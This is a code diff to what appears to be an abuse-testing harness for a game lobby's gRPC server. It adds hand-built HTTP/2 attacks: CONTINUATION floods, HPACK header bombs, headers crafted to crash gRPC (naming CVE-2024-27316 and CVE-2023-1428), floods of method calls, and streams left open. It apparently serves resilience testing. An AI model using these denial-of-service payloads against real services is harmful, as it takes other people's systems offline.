@@ -1,6 +1,6 @@
 """What the abusers do at the gRPC port, in HTTP/2 written by hand."""
 
-from abuse_kinds import BLOCK_BYTES, BYTE_PAUSE_SECONDS, Site, block
+from abuse_kinds import BLOCK_BYTES, BYTE_PAUSE_SECONDS, Site, block, field, varint
 from abuse_line import Line
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -39,15 +39,29 @@ def http2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return head + payload
 
 
-def literal(name: bytes, value: bytes) -> bytes:
-    """A header field that no table keeps (RFC 7541, 6.2.2)."""
-    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
+def length(number: int) -> bytes:
+    """In 7 bits and more (RFC 7541, 5.1)."""
+    if number < 0x7f:
+        return bytes([number])
+    return b"\x7f" + varint(number - 0x7f)
 
 
-CALL = b"".join(literal(*field) for field in (
-    (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"bench"),
-    (b":path", b"/tesela.lobby.v1.LobbyService/ListTables"), (b"te", b"trailers"),
-    (b"content-type", b"application/grpc")))
+def literal(name: bytes, value: bytes, kept: bool = False) -> bytes:
+    """A header field, which the table of both ends keeps or not (RFC 7541, 6.2)."""
+    return (b"\x40" if kept else b"\0") + length(len(name)) + name + length(len(value)) + value
+
+
+def call(path: bytes, scheme: bytes = b"http", te: bytes = b"trailers") -> bytes:
+    return b"".join(literal(*field) for field in (
+        (b":method", b"POST"), (b":scheme", scheme), (b":authority", b"bench"), (b":path", path),
+        (b"te", te), (b"content-type", b"application/grpc")))
+
+
+LISTS = b"/tesela.lobby.v1.LobbyService/ListTables"
+CALL = call(LISTS)
+# What gRPC's library ends the process over when it is told of more than it shows (CVE-2023-1428).
+FATAL = (call(LISTS, te=b"x"), call(LISTS, scheme=b"x"),
+         CALL + literal(b"grpclb_client_stats", b"x"))
 EMPTY_MESSAGE = bytes(5)
 CANCEL = (8).to_bytes(4, "big")
 
@@ -122,6 +136,70 @@ async def grpc_endless_headers(line: Line, _: Site):
     await line.flood(http2_frame(CONTINUATION, 0, 1, b"\x80" * (BLOCK_BYTES // 2)))
 
 
+async def grpc_continuation_floods(line: Line, _: Site):
+    """Headers that go on in frames of nothing (CVE-2024-27316)."""
+    await _begin(line)
+    await line.send(http2_frame(HEADERS, 0, 1, CALL))
+    await line.flood(block(http2_frame(CONTINUATION, 0, 1, b"")))
+
+
+async def grpc_header_bombs(line: Line, _: Site):
+    """A large field in the table, and then a byte for each time that it comes."""
+    await _begin(line)
+    bomb = CALL + literal(b"x-bomb", b"b" * 3000, kept=True) + b"\xbe" * 8000
+    await line.send(http2_frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb))
+    await line.wait(3600)
+
+
+async def grpc_fatal_headers(line: Line, _: Site):
+    await _begin(line)
+    fatal = FATAL[id(line) // 64 % len(FATAL)]
+    await line.send(http2_frame(HEADERS, END_HEADERS | END_STREAM, 1,
+                                fatal + literal(b"x-large", b"x" * 9000)))
+    await line.wait(3600)
+
+
+async def _call_again_and_again(line: Line, path_of, message: bytes, pause_seconds: float):
+    await _begin(line)
+    stream = 1
+    while not line.is_over:
+        await line.send(http2_frame(HEADERS, END_HEADERS, stream, call(path_of(stream))) +
+                        http2_frame(DATA, END_STREAM, stream, message))
+        stream += 2
+        await line.wait(pause_seconds)
+
+
+async def grpc_unknown_paths(line: Line, _: Site):
+    """Calls of methods that do not exist, each of another one."""
+    await _call_again_and_again(line, lambda stream: b"/abuse%d/of%d" % (id(line), stream),
+                                EMPTY_MESSAGE, 0.01)
+
+
+async def grpc_health_floods(line: Line, _: Site):
+    await _call_again_and_again(line, lambda _: b"/grpc.health.v1.Health/Check", EMPTY_MESSAGE,
+                                0.01)
+
+
+async def grpc_broken_text(line: Line, _: Site):
+    """A name that is no UTF-8."""
+    name = field(1, b"\xff\xfe")
+    message = b"\0" + len(name).to_bytes(4, "big") + name
+    await _call_again_and_again(line, lambda _: b"/tesela.lobby.v1.LobbyService/SignIn", message,
+                                0.05)
+
+
+async def grpc_unfinished_calls(line: Line, _: Site):
+    """As many calls as there may be, whose messages begin and do not end."""
+    await _begin(line)
+    part = b"\0" + (60_000).to_bytes(4, "big") + b"x" * 500
+    for stream in range(1, 2 * CALLS_A_BLOCK, 2):
+        await line.send(http2_frame(HEADERS, END_HEADERS, stream, CALL) +
+                        http2_frame(DATA, 0, stream, part))
+    await line.wait(3600)
+
+
 GRPC_KINDS = (grpc_garbage, grpc_slow_prefaces, grpc_silent, grpc_ping_floods,
               grpc_settings_floods, grpc_large_messages, grpc_rapid_resets, grpc_bad_headers,
-              grpc_endless_headers)
+              grpc_endless_headers, grpc_continuation_floods, grpc_header_bombs,
+              grpc_fatal_headers, grpc_unknown_paths, grpc_health_floods, grpc_broken_text,
+              grpc_unfinished_calls)
